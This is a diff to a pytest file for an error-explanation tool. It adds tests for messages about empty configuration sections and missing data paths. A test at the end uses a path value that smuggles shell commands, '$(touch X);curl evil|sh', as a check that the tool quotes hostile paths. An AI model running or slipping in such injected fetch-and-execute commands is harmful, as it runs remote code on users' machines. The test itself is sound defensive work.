@@ -152,6 +152,30 @@ def test_the_statement_shows_what_a_key_was_looked_up_in(statement, key, words):
     assert words in explain_text(f"{frames}KeyError: '{key}'\n").fix
 
 
+@pytest.mark.parametrize(("statement", "words"), [
+    ('lr = cfg["train"]["lr"]', "the value of 'train' is None"),
+    ('lr = cfg["train"]["optimizer"]["lr"]', "became None"),
+    ("lr = cfg[0]", "became None"),
+])  # fmt: skip
+def test_the_statement_shows_which_section_of_a_configuration_is_empty(statement, words):
+    frames = f'Traceback (most recent call last):\n  File "train.py", line 3, in <module>\n    {statement}\n'
+    assert words in explain_text(f"{frames}TypeError: 'NoneType' object is not subscriptable\n").fix
+
+
+@pytest.mark.parametrize(
+    ("shown", "path"),
+    [
+        ("PosixPath('/data/train.csv')", "/data/train.csv"),
+        ("b'/data/train.csv'", "/data/train.csv"),
+        ('"/data/bob\'s/train.jsonl"', "/data/bob's/train.jsonl"),
+        ("'/data/train.csv'", "/data/train.csv"),
+    ],
+)
+def test_the_path_of_missing_data_is_whole_however_python_shows_it(shown, path):
+    explanation = explain_text(raised(0, f"FileNotFoundError: [Errno 2] No such file or directory: {shown}"))
+    assert f"the training data {path} does not exist" in explanation.summary
+
+
 def test_a_hostile_path_of_a_log_is_quoted_in_its_fix():
     path = "/data/$(touch X);curl evil|sh/train.bin"
     fix = explain_text(raised(0, f"FileNotFoundError: [Errno 2] No such file or directory: '{path}'")).fix
